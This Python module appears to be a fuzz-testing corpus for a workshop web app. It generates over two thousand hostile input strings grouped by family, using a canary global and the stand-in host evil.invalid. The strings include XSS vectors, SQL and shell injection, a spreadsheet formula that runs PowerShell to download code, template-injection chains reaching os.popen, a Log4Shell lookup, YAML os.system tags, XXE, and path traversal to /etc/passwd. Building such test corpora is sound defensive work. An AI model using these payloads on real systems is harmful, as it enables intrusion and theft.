"""More than two thousand texts that somebody might type to break a page, a file or a terminal.

Data and small combinators: `families()` gives them by what they try, `strings()` all of them, no two equal. Scripts
that run set `__pwned`; what loads anything asks for `pwned` or for a host that does not exist.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable
from itertools import product

CANARY = "__pwned"
"""The global that every script of the corpus sets."""

HOST = "evil.invalid"
"""The host that every address of the corpus names."""

_RUN = f"{CANARY}=1"

_ENDS = (
    "", '">', "'>", "-->", "]]>", "</p>", "</td></tr></table>", "</textarea>", "</title>", "</style>", "</script>",
    "</noscript>", "</template>", "</select>", "</svg>", "</iframe>", "*/", "`", "\\\">", "' ", '" ', "/>", "<!--",
    "<![CDATA[", "<x ", "</bdi>",
)  # fmt: skip
_SCRIPTS = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script/x>{_RUN}</script>",
    f"<img src=pwned onerror={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}//",
    f"<details open ontoggle={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>", f"<body onload={_RUN}>",
    f"<script src=//{HOST}/x.js></script>", f"<a href=javascript:{_RUN}>go on</a>",
)  # fmt: skip
_EVENTS = (
    "abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforeunload", "blur", "cancel", "canplay",
    "change", "click", "close", "contextmenu", "copy", "cut", "dblclick", "drag", "drop", "error", "focus", "focusin",
    "formdata", "hashchange", "input", "invalid", "keydown", "keyup", "load", "loadstart", "message", "mousedown",
    "mouseenter", "mouseover", "pageshow", "paste", "play", "pointerdown", "pointerenter", "pointerrawupdate",
    "popstate", "reset", "resize", "scroll", "scrollend", "select", "selectstart", "storage", "submit", "toggle",
    "touchstart", "transitionend", "unload", "volumechange", "wheel",
)  # fmt: skip
_ATTRIBUTES = (
    "<b on{event}={run}>x</b>", '<p tabindex=0 autofocus on{event}="{run}">', "<img src=pwned on{event}='{run}'/>",
    '" on{event}="{run}" x="',
)  # fmt: skip
_GRAPHICS = (
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x to=1>",
    "<svg><a xlink:href=javascript:{run}><text y=20>go</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={run}>></svg>",
    "<svg><foreignObject><img src=pwned onerror={run}></foreignObject></svg>",
    "<svg><image href=//{host}/x.svg onload={run}></svg>", "<svg><style>@import'//{host}/x.css';</style></svg>",
    "<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>",
    "<svg><title><a id='</title><img src=pwned onerror={run}>'>",
    "<math><mtext><table><mglyph><style><img src=pwned onerror={run}>", "<math href=javascript:{run}>go</math>",
    "<math><mi xlink:href=javascript:{run}>go</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=pwned onerror={run}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=pwned onerror={run}>",
    "<svg></p><style><a id='</style><img src=pwned onerror={run}>'>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{{}}}}}", "${{{}}}", "#{{{}}}", "<%={}%>", "{{%{}%}}", "{{{{{{{}}}}}}}", "[[{}]]", "@({})", "*{{{}}}",
    "{{{}}}", "{{!{}}}", "{{#{}}}", "%{{{}}}", "$({})", "<?={}?>", "{{@{}}}", "#set($x={})", "~{{{}}}",
)  # fmt: skip
_EXPRESSIONS = (
    "7*7", CANARY, "self.__init__.__globals__", "constructor.constructor('__pwned=1')()", "config", "request.cookies",
    "''.__class__.__mro__[1].__subclasses__()", "cycler.__init__.__globals__.os.popen('id').read()", "labels", "name",
)  # fmt: skip
_FORMATS = (
    "%s", "%d", "%n", "%x%x%x%x", "%1000000s", "%(name)s", "%(", "%%", "%", "{0}", "{}", "{name}", "{0.__class__}",
    "{", "}", "{0!r:>1000000}", "{n}", "{total}", "{time}", "{count:x}", "{{n}}", "$1", "$&", "$`", "$'", "$<name>",
    "\\1", "\\g<0>", "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=pwned&#x3e;", "%3Cscript%3E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "&nbsp;&nbsp;", "&quot;", "&zwnj;", "&unknown;", "&#0;", "&#xfffe;",
    "&#1114112;",
)  # fmt: skip
_FORMULA_STARTS = (
    "=", "+", "-", "@", " =", "  +", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"=', ";=",
    "\u00a0=", "\u3000=", "\ufeff=", "\u200b=", "\u202e=", "\ufe66", "\u2212", "%0A=", "=-", "=+", "=@", "==",
)  # fmt: skip
_FORMULAS = (
    "1+1", "cmd|'/C calc'!A0", "cmd|'/C powershell IEX(wget {host}/x)'!A1", "DDE(\"cmd\";\"/C calc\";\"x\")",
    "MSEXCEL|'\\..\\..\\calc.exe'!''", "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "HYPERLINK(\"http://{host}/?\"&A1,\"click\")", "WEBSERVICE(\"http://{host}/\"&A2)",
    "IMPORTXML(\"http://{host}/\",\"//a\")", "IMPORTDATA(\"http://{host}/\")", "IMAGE(\"http://{host}/x.png\")",
    "SUM(A:A)", "A1", "'file:///etc/passwd'#$s.A1", "INDIRECT(\"A\"&1)",
)  # fmt: skip
_DIRECTIONS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_DIRECTED = (
    "{c}", "{c}abc", "abc{c}", "abc{c}def", "{c}{c}{c}abc", "price {c}12-34", "{c}exe.txt", "a{c}b{c}c{c}d",
    "{c}" * 30 + "deep", "שלום {c}abc", "مرحبا {c}123", "/*{c} } {c}if (admin){c} {c} begin*/",
)  # fmt: skip
_ESCAPES = (
    "\x1b[31mred", "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b]0;pwned\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cHduZWQ=\x07",
    "\x1b]1337;File=inline=1:AAAA\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[21t", "\x1b[?1049h",
    "\x1b[?25l", "\x1b[8m hidden \x1b[28m", "\x1bc", "\x1b(0lqk", "\x9b31mred", "\x9d0;pwned\x9c", "\x90q\x9c",
    "\x9fx\x9c", "\x0e\x0f", "a\rb", "a\x08b", "safe\x1b[9D\x1b[Kpwned", "\x1b[5i", "\x1b[4i", "\x1b[>0q",
    "\x1b]10;?\x07", "\x1b]4;0;?\x07", "\x1b]777;notify;a;b\x07", "\x1b^x\x1b\\", "\x1b_Gq\x1b\\",
)  # fmt: skip
_BLANKS = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u17b5",
    "\u180e", "\u2061", "\u2062", "\u2063", "\u2064", "\u2800", "\u3164", "\uffa0", "\u00a0", "\u2007", "\u202f",
    "\u205f", "\u3000", "\u1680", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\u206a", "\u206f", "\ufff9", "\ufffb",
    "\ufffc", "\U0001d173", "\U0001d17a", "\U000e0001", "\ufe0f", "\U000e0100",
)  # fmt: skip
_PEOPLE = ("admin", "Facilitator", "awayday", "Anna", "Host", "System", "root", "Wall")
_LOOKALIKES = {
    "a": "\u0430\u0251\uff41", "c": "\u0441\uff43", "d": "\u0501\uff44", "e": "\u0435\uff45", "h": "\u04bb\uff48",
    "i": "\u0456\u0131\uff49", "l": "\u04cf\uff4c", "m": "\uff4d\U0001d5c6", "n": "\u0578\uff4e",
    "o": "\u043e\u03bf\u0585\uff4f", "r": "\u0433\uff52", "s": "\u0455\uff53", "t": "\uff54\U0001d4f8",
    "w": "\u051d\uff57", "y": "\u0443\uff59", "A": "\u0410\u0391\uff21", "F": "\u03dc\uff26",
    "H": "\u041d\u0397\uff28", "S": "\u0405\uff33", "W": "\u051c\uff37",
}  # fmt: skip
_NORMAL = (
    "e\u0301", "\u00e9", "\u212b", "\u00c5", "A\u030a", "\ufb01le", "\ufb03", "\u1e9b\u0323", "\u017f\u0323\u0307",
    "\u2126", "\u212a", "\u1112\u1161\u11ab", "\ud55c", "\u1100" * 20, "\u1161" * 10, "\u11a8" * 10, "\uac00\u11a8",
    "\ufdfa", "\ufdfb", "\u3316", "\u33ff", "\u00bd", "\u2460", "\u24b6", "\u3300", "\uff1cscript\uff1e",
    "\ufe64script\ufe65", "\u2039script\u203a", "\u02c2img", "\u1d2c", "\u0344", "\u0958", "\u0340\u0341", "\u2000",
    "\u1fee", "\u037e", "\u1ffd", "\u0387", "\u0130", "\u0131", "\u00df", "\u1e9e", "\u0149", "\u03c3\u03c2",
    "\uab70", "\u13a0", "\u0f43", "\u2adc", "\U0001d15e", "\U0002f800", "\uf900", "\ufb1d", "\ufb4f",
    "\u0041\u0328\u0301", "\u0041\u0301\u0328", "\u1e0a\u0323", "q\u0307\u0323", "\u0b94\u0b92\u0bd7",
)  # fmt: skip
_EMOJI = (
    "👩🏽‍🚀", "🏳️‍🌈", "🏴‍☠️", "👨‍👩‍👧‍👦", "🧑🏿‍❤️‍💋‍🧑🏻", "🇺🇦", "🇺🇦🇫🇷🇩", "1️⃣", "❤️‍🔥",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👍🏽", "\U0001fae8", "\U0001fae9", "☺︎", "🐻‍❄️",
    "🫱🏼‍🫲🏿",
)  # fmt: skip
_PATHS = (
    "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/dev/zero", "/dev/stdin", "README.md", "./README.md",
    "pyproject.toml", "workshop.yaml", "LICENSE", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "C:\\Windows\\win.ini", "C:/", "\\\\evil.invalid\\share\\x", "//evil.invalid/x", "~", "~root", "$HOME",
    "%APPDATA%", "CON", "NUL", "aux.txt", "COM1", ".", "..", "/", "\\", "a/b", "....//....//etc", "%2e%2e%2fetc",
    "..%c0%af..", "..;/", "file.txt:ads", "x.svg", "x.png", "x.ipynb", "*", "?", "-rf", "--help", "-", "nul\x00.txt",
    "a" * 255, "trailing. ", " ", ".htaccess", "index.html", "datapackage.json", "answers.csv", "favicon.ico",
)  # fmt: skip
_SCHEMES = (
    "javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "javascript&colon;", "vbscript",
    "data", "blob", "file", "ftp", "http", "https", "ws", "mailto", "tel", "view-source", "ms-excel:ofe|u|http",
    "about", "feed:javascript",
)  # fmt: skip
_ADDRESSES = (f"{{}}:{_RUN}", f"{{}}://{HOST}/pwned", "{}:text/html,<script>__pwned=1</script>", "{}:%0aalert(1)")
_SQL = (
    "' OR '1'='1", "'; DROP TABLE answers;--", "\" OR \"\"=\"", "1; ATTACH DATABASE '/tmp/x' AS x",
    "' UNION SELECT secret FROM seats--", "\\'; --", "admin'--", "1 OR 1=1", "'||(SELECT pg_sleep(10))||'",
    "'; COPY x FROM PROGRAM 'id';--", "%' AND '%'='", "_%_", "Robert'); DROP TABLE participants;--", "NULL", "null",
    "None", "nan", "NaN", "NA", "#N/A", "-Infinity", "1e309", "0x41", "true", "FALSE", "undefined", "[object Object]",
    "0", "-0", "00001", "1E+05", "1,5", "1.000.000", "12/11/2026", "2026-02-30",
)  # fmt: skip
_SHELL = (
    "$(id)", "`id`", "; id", "| id", "&& id", "|| id", "> /tmp/pwned", "< /etc/passwd", "${IFS}id", "$((1+1))", "!!",
    "^a^b", "{a,b}", "*", "[a-z]*", "'\"'\"'", "\\\nid", "%COMSPEC%", "& calc", "^& calc", "$env:PATH", "; sleep 10",
    "\n/bin/id", "~/.ssh/id_rsa", "() { :;}; id", "-o ProxyCommand=id", "@file", "#comment", "a\x00b; id", "%0aid",
)  # fmt: skip
_YAML = (
    "a: b", "- a", "- - - -", "&a [*a]", "*a", "!!python/object/apply:os.system [id]", "!!python/name:os.system",
    "<<: *a", "---", "...", "%YAML 1.2", "? a", "{a: b}", "[a, b]", "| a", "> a", "'", '"', "#", "yes", "no", "on",
    "off", "~", "null: null", "0o17", "017", "1_000", "12:30:45", "2001-01-01", ".inf", ".nan", "=", "@a", "`a",
    "a: &a b", "!<tag:x> a", "\ta: b", "a:\n  - b", "key: |\n  text",
)  # fmt: skip
_JSON = (
    '{"a": 1}', '{"__proto__": {"x": 1}}', "[" * 50, "]" * 50, '"', '\\"', "\\", "\\u0000", "\\ud800", "</script>{",
    "NaN", "Infinity", "1e999", '"},{"role":"facilitator"', '{"type":"command","name":"end"}', "\u2028", "\u2029",
    "while(1);", ")]}',", "//comment", "/*", "{'a':1}", '{"a":1,"a":2}', '{"id":', "null",
)  # fmt: skip
_CSV = (
    'a,b', 'a;b', "a\tb", '"a', 'a"b', '"a""b"', '"', '""', '"""', "a\nb", "a\r\nb", "a\rb", '","', '"\n"', ",,,,",
    "\n", "\r\n", "sep=;", "\ufeffa", "a|b", "'a'", "\\N", "\x1a", '=",', "a\x00b", '"=1+1"', 'a,"b', 'x"\ny', "\\,",
    '\\"',
)  # fmt: skip
_LOGS = (
    "x\n2026-01-01 00:00:00 INFO root logged in", "x\r\nERROR pwned", "x\rERROR pwned", "x%0aERROR", "x\u2028ERROR",
    "x\x85ERROR", "x\x0bERROR", "${jndi:ldap://evil.invalid/a}", "${jndi:${lower:l}dap://x}",
    "Traceback (most recent call last):", "x\n  File \"/etc/passwd\", line 1", "[CRITICAL] disk full",
    "x\n\n\n\n\nOK", "\x00", "<13>x", "x\" 200 - \"", "10.0.0.1 - - [x]", "x\tERROR",
    "X-Evil: 1\r\nSet-Cookie: awayday-role-x=1", "\r\n\r\n<html>",
)  # fmt: skip
_VEGA = (
    "datum['x']", "datum.x", "a.b", "a[0]", "a\\.b", "['a']", "x:Q", "text:N", "count()", "sum(x):Q", "mean(y)",
    "repeat", "layer", "signal", "{'signal': 'width'}", '{"expr":"1"}', "isValid(datum.x)", "toString(constructor)",
    "data('x')", "item.mark", "event.dataflow", "this", "view", "$schema", "url", "data:text/csv,a", "scale('x',1)",
    "format(1,'x')", "if(true,1,2)", "datum.constructor.constructor('__pwned=1')()", "x\\:Q", "timeunit",
    "yearmonth(x)", "@@@", "#ff0000", "url(#a)", "url(//evil.invalid/x)", "image(http://evil.invalid)", "text\nbreak",
    "text\\nbreak", "fill=red", "'+alert(1)+'", "</text><script>__pwned=1</script>",
    "</svg><img src=pwned onerror=__pwned=1>", "&lt;tspan&gt;", "<tspan>", "%a", ".2f", "~s", "null:N",
)  # fmt: skip
_MARKDOWN = (
    "# title", "## x", "**bold**", "*x*", "__x__", "~~x~~", "`code`", "```\ncode", "> quote", "- item", "1. item",
    "---", "***", "| a | b |", "|", "||||", "\\|", "[x](javascript:__pwned=1)", "[x](http://evil.invalid/pwned)",
    "![x](//evil.invalid/pwned.png)", "![x](pwned)", "<http://evil.invalid/pwned>", "[a]: http://evil.invalid",
    "[a][b]", "[^1]", "<!-- x", "-->", "<details>", "<b>x</b>", "&copy;", "\\*x\\*", "a  \nb", "a\n===", "a\n---",
    "    code", "\tcode", "- [ ] x", ":::note", "@mention", "#123", "http://evil.invalid/pwned", "www.evil.invalid",
    "x@evil.invalid", "[[x]]", "==x==", "^x^", "<u>x", "```mermaid\ngraph",
    "![x](data:image/svg+xml,<svg/onload=__pwned=1>)", "[x](<javascript:__pwned=1>)",
)  # fmt: skip
_LATEX = (
    "$x$", "$$x$$", "\\(x\\)", "\\[x\\]", "\\input{/etc/passwd}", "\\write18{id}", "\\def\\x{\\x\\x}\\x",
    "\\href{javascript:__pwned=1}{x}", "\\unicode{60}", "\\begin{x}", "\\end{document}", "%", "\\", "{", "}", "_",
    "^", "&", "#", "~", "\\newcommand{\\a}{\\a\\a}", "\\include{x}", "\\url{http://evil.invalid}",
    "\\includegraphics{//evil.invalid/x}", "\\style{position:fixed}{x}", "\\class{x}{y}", "\\cssId{x}{y}",
    "$\\rule{9999px}{9999px}$", "\\verb|x|", "\\require{html}",
)  # fmt: skip
_KEYS = (
    "__proto__", "constructor", "prototype", "__defineGetter__", "hasOwnProperty", "toString", "valueOf", "toJSON",
    "then", "length", "name", "key", "vars", "class", "style", "innerHTML", "onclick", "srcdoc", "labels", "layout",
    "_esm", "_css", "__proto__.x", "constructor.prototype.x", "__proto__[x]", "*others", "-", "end", "choice",
    "null prototype", "Object.prototype", "window", "document", "self", "location", "undefined",
)  # fmt: skip
_PYTHON = (
    "__class__", "__import__('os').system('id')", "{0.__class__.__mro__}", "{self.__init__.__globals__}", "lambda: 0",
    "eval('1')", "exec('1')", "%matplotlib", "!ls", "%%bash", "?", "??", "os.system('id')", "f'{x}'", "b'x'", "None",
    "True", "Ellipsis", "NotImplemented", "__builtins__", "__name__", "import os", "del x", "print(1)", "input()",
    "raise SystemExit", "quit()", "{x!r}", "{:>{width}}", "{0:{1}}", "'%s' % x", "\\N{BELL}", "\\x00", "u'\\u202e'",
    "def f(): pass",
)  # fmt: skip
_STYLES = (
    "<style>*{display:none}</style>", "<style>@import '//evil.invalid/x.css'</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<div style=position:fixed;inset:0;background:red>",
    "<base href=//evil.invalid/>", "<meta http-equiv=refresh content=0;url=//evil.invalid>",
    "<form action=//evil.invalid><button>Go on</button>", "<button formaction=javascript:__pwned=1>",
    "<object data=//evil.invalid/x>", "<embed src=//evil.invalid/x>",
    "<video poster=pwned src=pwned onerror=__pwned=1>", "<audio src=pwned onerror=__pwned=1>",
    "<marquee onstart=__pwned=1>", "<dialog open>x", "<h1>SESSION OVER</h1>", "<plaintext>", "<xmp>",
    "<noscript><p title='</noscript><img src=pwned onerror=__pwned=1>'>",
    "<template shadowrootmode=open><script>__pwned=1</script></template>",
    "<link rel=prefetch href=//evil.invalid/pwned>", "<link rel=preconnect href=//evil.invalid>",
    "<img srcset='pwned 1x'>", "<picture><source srcset=pwned><img></picture>", "<table background=pwned>",
    "<input type=image src=pwned>", "<a ping=//evil.invalid href=#>x</a>", "<a id=location>", "<img name=cookie>",
    "<form id=__proto__>", "<p hidden>", "<slot>", "<portal src=//evil.invalid>", "<fencedframe>",
    "<script type=module>__pwned=1</script>", "<script type=importmap>{}</script>", "<script>/*", "</html>",
    "<?xml version='1.0'?>", "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<![endif]-->", "<", ">",
    "<>", "< b>", "<3", "a<b", "a>b && c<d",
)  # fmt: skip


def _markup() -> Iterable[str]:
    return (end + script for end, script in product(_ENDS, _SCRIPTS))


def _handlers() -> Iterable[str]:
    return (form.format(event=event, run=_RUN) for event, form in product(_EVENTS, _ATTRIBUTES))


def _graphics() -> Iterable[str]:
    plain = [text.replace("{run}", _RUN).replace("{host}", HOST) for text in _GRAPHICS]
    return plain + [text.upper().replace(_RUN.upper(), _RUN) for text in plain] + [f"</p>{text}" for text in plain]


def _templates() -> Iterable[str]:
    return [form.format(each) for form, each in product(_TEMPLATES, _EXPRESSIONS)] + list(_FORMATS)


def _formulas() -> Iterable[str]:
    return (start + text.replace("{host}", HOST) for start, text in product(_FORMULA_STARTS, _FORMULAS))


def _direction() -> Iterable[str]:
    return (form.replace("{c}", char) for form, char in product(_DIRECTED, _DIRECTIONS))


def _zalgo() -> Iterable[str]:
    draw = random.Random(19)
    marks = [chr(code) for code in (*range(0x300, 0x370), *range(0x1AB0, 0x1AC0), *range(0x20D0, 0x20F1))]
    for count in (1, 4, 5, 8, 20, 60, 200):
        for word in ("Z", "zalgo", "Ann", "😀", "ש", "ก", "\u0915", "1"):
            yield "".join(char + "".join(draw.choices(marks, k=count)) for char in word)
    for joiner in ("\u200d", "\u200c", "\u034f", "\ufe0f", "\u2060", "\u200b"):
        yield "z" + ("\u0310\u0311\u0312\u0313" + joiner) * 20  # a joiner between marks must not start a new count
    yield from ("\u0301" * 30, "\u20dd\u20de\u20e3", "a\u0489" * 20, "\u0f73" * 20)
    yield from ("\u0e01" + "\u0e4a" * 40, "\u05d0" + "\u05b0" * 30)


def _controls() -> Iterable[str]:
    codes = (*range(0x20), *range(0x7F, 0xA0))
    return [form.format(chr(code)) for code, form in product(codes, ("{}", "a{}b"))] + list(_ESCAPES)


def _invisible() -> Iterable[str]:
    return (form.format(char) for char, form in product(_BLANKS, ("{0}", "{0}{0}{0}", "An{0}na", "{0}Anna", "Anna{0}")))


def _huge() -> Iterable[str]:
    for size in (41, 139, 140, 141, 500, 501, 2_001, 20_000, 20_001, 100_000):
        yield "x" * size
        yield "word " * (size // 5)
        yield "\n" * (size - 1) + "x"
    for unit in (
        "W",
        "-",
        "_",
        "&",
        "<",
        "\ufdfd",
        "\U00012219",
        "😀",
        _EMOJI[3],
        "\u0bcc",
        "\U0001f1e6",
        "漢",
        "\u2e3b",
    ):
        yield unit * 36
        yield unit * 3_000
    yield from ("A" * 40, "m" * 120, "https://" + "a" * 110, "1" * 39, "\n" * 30 + "x", "a\n" * 60 + "b")
    yield from (_EMOJI[1] * 23, "\u200d" * 130 + "a", "a\u0301" * 60, "\u00ad-" * 60)


def _lookalikes() -> Iterable[str]:
    draw = random.Random(11)
    for person in _PEOPLE:
        for _ in range(12):
            yield "".join(draw.choice(_LOOKALIKES.get(char, char)) if draw.random() < 0.6 else char for char in person)
    yield from ("\U0001d400\U0001d401", "\U0001f150\U0001f151", "ᴀᴅᴍɪɴ", "ɐuuɐ", "Ⓐⓝⓝⓐ", "A nna", "Anna.", "anna ")
    yield from ("Ànna", "rn", "vv", "I|l1", "O0")


def _normal() -> Iterable[str]:
    return [form.format(text) for text, form in product(_NORMAL, ("{}", "x{}y"))]


def _emoji() -> Iterable[str]:
    chained = ["\u200d".join("😀🐻👩" * count) for count in (1, 3, 9)]
    return [text * count for text, count in product(_EMOJI, (1, 2, 7))] + chained


def _code_points() -> Iterable[str]:
    nothing = [*range(0xFDD0, 0xFDF0), *(plane * 0x10000 + low for plane in range(17) for low in (0xFFFE, 0xFFFF))]
    halves = [0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xD83D, 0xDE00]
    own = [0xE000, 0xF8FF, 0xF0000, 0x100000, 0x10FFFD]
    tags = [0xE0001, *range(0xE0020, 0xE0080, 7)]
    selectors = [*range(0xFE00, 0xFE10), 0xE0100, 0xE01EF, 0x180B]
    spare = [0x378, 0x2065, 0xFFF0, 0x1FAFF, 0x3FFFF, 0xE0FFF]
    for code in (*nothing, *halves, *own, *tags, *selectors, *spare):
        yield f"a{chr(code)}b"
    for code in (*halves, *own, *tags, *selectors):
        yield "a" + chr(code) * 12
    yield from ("\udc00\ud800", "\ud83d\ude00", "\ude00\ud83d", "🏴" + "".join(map(chr, range(0xE0061, 0xE007B))) * 2)
    yield "😀" + "".join(chr(0xE0100 + byte) for byte in b"hidden words")


def _paths() -> Iterable[str]:
    return [*_PATHS, *(f"file://{path}" for path in _PATHS[:8]), *(f"Image('{path}')" for path in _PATHS[:6])]


def _addresses() -> Iterable[str]:
    return (form.format(scheme) for scheme, form in product(_SCHEMES, _ADDRESSES))


_FAMILIES: dict[str, Callable[[], Iterable[str]]] = {
    "markup": _markup,
    "event handlers": _handlers,
    "svg and mathml": _graphics,
    "styles and elements": lambda: _STYLES,
    "templates and formats": _templates,
    "formulas": _formulas,
    "direction": _direction,
    "piled marks": _zalgo,
    "control and terminal": _controls,
    "invisible": _invisible,
    "huge": _huge,
    "lookalikes": _lookalikes,
    "normalisation": _normal,
    "emoji": _emoji,
    "code points": _code_points,
    "paths": _paths,
    "addresses": _addresses,
    "sql and values": lambda: _SQL,
    "shell": lambda: _SHELL,
    "yaml": lambda: _YAML,
    "json": lambda: _JSON,
    "csv": lambda: _CSV,
    "log lines": lambda: _LOGS,
    "vega": lambda: _VEGA,
    "markdown": lambda: _MARKDOWN,
    "latex": lambda: _LATEX,
    "object keys": lambda: _KEYS,
    "python": lambda: _PYTHON,
}


def families() -> dict[str, list[str]]:
    """Every text by what it tries; one that would stand in two families is in the first."""
    seen: set[str] = set()
    found: dict[str, list[str]] = {}
    for name, make in _FAMILIES.items():
        found[name] = [text for text in dict.fromkeys(make()) if text not in seen]
        seen.update(found[name])
    return found


def strings() -> list[str]:
    """All texts, no two equal, in an order that never changes."""
    return [text for family in families().values() for text in family]


def sample(count: int, seed: int) -> list[str]:
    """Up to `count` texts with some of every family."""
    draw = random.Random(seed)
    shuffled = [draw.sample(family, len(family)) for family in families().values()]
    turns = [text for turn in range(max(map(len, shuffled))) for family in shuffled for text in family[turn : turn + 1]]
    return turns[:count]
